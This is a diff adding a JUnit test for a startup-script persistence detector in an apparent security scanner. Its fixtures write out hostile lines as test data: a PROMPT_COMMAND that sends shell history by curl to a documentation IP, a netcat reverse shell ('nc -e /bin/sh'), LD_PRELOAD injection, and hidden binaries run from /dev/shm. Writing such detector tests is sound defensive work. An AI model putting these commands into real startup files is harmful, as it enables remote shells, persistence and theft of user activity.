@@ -1,0 +1,67 @@
+package dev.ward.detect.builtin;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+
+import dev.ward.model.Finding;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class StartupScriptDetectorTest {
+    private static final String PASSWD = "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"
+            + "nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n";
+
+    @TempDir
+    Path dir;
+
+    @Test
+    void rcLocalWithCommandsIsMediumAndHighWithIndicator() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n"
+                + "echo 1 > /proc/sys/net/ipv4/ip_forward\n/var/tmp/.k/agent &\nexit 0\n");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.rc_local.commands /etc/rc.local"), PackagedRoot.brief(f));
+        assertEquals(4, f.getFirst().evidence().get("line"));
+        assertEquals(2, f.getFirst().evidence().get("commands"));
+        assertEquals("runs /var/tmp/.k/agent", f.getFirst().evidence().get("indicator"));
+
+        new PackagedRoot(dir).write("/etc/rc.local", "#!/bin/sh\nmount -a\nexit 0\n");
+        assertEquals(List.of("medium linux.rc_local.commands /etc/rc.local"),
+                PackagedRoot.brief(root.run(new StartupScriptDetector())));
+    }
+
+    @Test
+    void shellFilesWithNetworkTempPreloadAndPromptCommand() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
+                .packaged("bash", "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\n"
+                        + "PROMPT_COMMAND='history 1 | logger -t cmd; curl -s http://203.0.113.4/?c=$(history 1)'\n")
+                .write("/etc/profile.d/z.sh", "export LD_PRELOAD=/usr/lib/libz2.so\n")
+                .write("/home/bob/.bashrc", "alias ll='ls -l'\n. ~/.bash_aliases\n"
+                        + "(nohup /dev/shm/x >/dev/null 2>&1 &)\n")
+                .write("/root/.profile", "nc -e /bin/sh 198.51.100.2 443 &\n")
+                .write("/etc/environment", "PATH=\"/usr/bin:/bin\"\nLD_PRELOAD=/lib/x.so\n");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.shell.startup_command /etc/bash.bashrc",
+                "high linux.shell.startup_command /etc/profile.d/z.sh",
+                "high linux.shell.startup_command /root/.profile",
+                "high linux.shell.startup_command /home/bob/.bashrc"), PackagedRoot.brief(f));
+        assertEquals("bash", f.get(0).evidence().get("package"));
+        assertEquals(2, f.get(0).evidence().get("line"));
+        assertEquals("sets LD_PRELOAD", f.get(1).evidence().get("indicator"));
+        assertEquals("netcat with -e/-c", f.get(2).evidence().get("indicator"));
+        assertEquals("runs /dev/shm/x", f.get(3).evidence().get("indicator"));
+        assertEquals(3, f.get(3).evidence().get("line"));
+    }
+
+    @Test
+    void ordinaryStartupFilesAreQuiet() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
+                .write("/etc/rc.local", "#!/bin/sh -e\n#\n# By default this script does nothing.\n\nexit 0\n")
+                .write("/etc/profile", "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/bin\"\nfi\n"
+                        + "export PATH\nfor i in /etc/profile.d/*.sh; do . $i; done\n")
+                .write("/home/bob/.bashrc", "PROMPT_COMMAND='echo -ne \"\\033]0;${USER}@${HOSTNAME}\\007\"'\n"
+                        + "export PATH=~/.local/bin:$PATH\nunset LD_PRELOAD\nsync; fnc=1\n")
+                .write("/etc/init.d/local", "#!/bin/sh\nrm -rf /tmp/*\n");
+        assertEquals(List.of(), root.run(new StartupScriptDetector()));
+    }
+}
